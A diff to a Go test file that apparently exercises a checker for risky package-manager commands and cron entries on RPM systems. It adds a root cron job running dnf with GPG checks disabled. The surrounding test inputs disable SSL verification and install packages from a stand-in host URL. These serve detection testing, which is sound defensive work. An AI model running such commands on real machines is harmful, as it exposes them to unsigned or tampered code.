@@ -47,6 +47,12 @@ func TestWhatHandsTellTasks(t *testing.T) {
 		}
 		hands(t, p, list)
 	}
+	t.Run("a name with a dot", func(t *testing.T) {
+		hands(t, rpmPlace(), []hand{
+			told("cronie reads it", "etc/cron.d/own.sh", "5 4 * * * root dnf -y --nogpgcheck upgrade\n"),
+			{does: "a copy that it does not read", file: "etc/cron.d/own.rpmsave", text: "5 4 * * * root dnf -y --nogpgcheck upgrade\n"},
+		})
+	})
 	t.Run("dnf", func(t *testing.T) {
 		others(t, rpmPlace(), "dnf -y --nogpgcheck upgrade", "dnf --setopt=sslverify=0 makecache", "yum --repofrompath=x,http://elsewhere.example/ -y upgrade",
 			"dnf config-manager --add-repo /srv/x.repo", "rpm -Uvh /srv/x.rpm", "rpm --import /srv/x.asc", "dnf -y install https://elsewhere.example/x.rpm")
